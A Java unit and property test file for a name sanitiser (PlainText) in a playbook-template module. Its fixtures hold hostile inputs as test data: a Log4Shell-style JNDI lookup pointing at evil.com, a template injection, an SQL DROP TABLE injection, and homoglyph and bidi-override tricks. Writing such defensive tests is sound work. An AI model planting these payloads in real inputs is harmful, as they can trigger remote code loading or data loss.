package io.tideline.udfs.playbook.template;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class PlainTextTest {
  private static final Pattern LINK_LIKE =
      Pattern.compile("\\w[.]\\w|://|www[.]\\S|@|#|/", Pattern.UNICODE_CHARACTER_CLASS);

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "Kim                       | Kim",
        "Jean-Luc O'Neill          | Jean-Luc O'Neill",
        "Dr. Müller                | Dr. Müller",
        "Zoë 💚                    | Zoë 💚",
        "{username}                | username",
        "{{7*7}}                   | 7 7",
        "${jndi:ldap://evil.com/a} | jndi ldap evil com a",
        "@admin                    | admin",
        "＠admin                   | admin",
        "#winner                   | winner",
        "https://evil.com/x        | https evil com x",
        "evil.com                  | evil com",
        "evil․com                  | evil com",
        "evil。com                 | evil com",
        "<b>bold</b>               | b bold b",
        "[click](http://x.example) | click http x example",
        "*x* _y_ ~z~ `c`           | x y z c",
        "'; DROP TABLE x; --       | DROP TABLE x",
        "...                       | ",
      })
  void aNameStaysANameAndNothingElse(String name, String plain) {

    assertThat(PlainText.of(name)).isEqualTo(plain);
  }

  @ParameterizedTest
  @NullSource
  @ValueSource(strings = {"", " ", "\u200b\u200d", "{}", "@@@", "\u3164", "\n\n"})
  void whereNothingIsLeftThereIsNoName(String name) {
    assertThat(PlainText.of(name)).isNull();
  }

  @Property(tries = 2_000)
  void noNameMakesMoreOfAText(@ForAll("hostile") String name) {
    String plain = PlainText.of(name);

    if (plain != null) {
      assertThat(plain)
          .doesNotContain("{", "}", "\n", "\r", "<", ">", "[", "]", "*", "_", "`", "|");
      assertThat(plain.codePointCount(0, plain.length())).isLessThanOrEqualTo(40);
      assertThat(LINK_LIKE.matcher(plain).find()).as(plain).isFalse();
      assertThat(plain.codePoints())
          .noneMatch(
              c ->
                  switch (Character.getType(c)) {
                    case Character.CONTROL,
                        Character.FORMAT,
                        Character.SURROGATE,
                        Character.PRIVATE_USE,
                        Character.UNASSIGNED,
                        Character.LINE_SEPARATOR,
                        Character.PARAGRAPH_SEPARATOR ->
                        true;
                    default -> false;
                  });
      assertThat(PlainText.of(plain)).isEqualTo(plain);
    }
  }

  @Provide
  Arbitrary<String> hostile() {
    Arbitrary<String> pieces =
        Arbitraries.of(
            "{",
            "}",
            "{username}",
            "@",
            "＠",
            "﹫",
            "evil",
            ".",
            "．",
            "｡",
            "。",
            "․",
            "com",
            "www.",
            "http://",
            "://",
            "/",
            "\\",
            "\n",
            "\r",
            "\u2028",
            "\u202e",
            "\u200d",
            "\u200b",
            "\u00ad",
            "\ufeff",
            "[x](y)",
            "<a>",
            "`",
            "*",
            "_",
            "#",
            "ﷺ",
            "💚",
            "👨‍👩‍👧",
            "é",
            "e\u0301",
            "Z\u0336\u0336\u0336\u0336",
            "\u3164",
            " ",
            "\t",
            "Kim",
            "O'",
            "-",
            "${x}",
            "%s",
            "\0",
            "\ud800",
            "ŀ",
            "‥",
            "…",
            "℀",
            "⒈",
            "¨");
    return Arbitraries.oneOf(
        pieces.list().ofMaxSize(12).map(list -> String.join("", list)),
        Arbitraries.strings().ofMaxLength(60));
  }
}
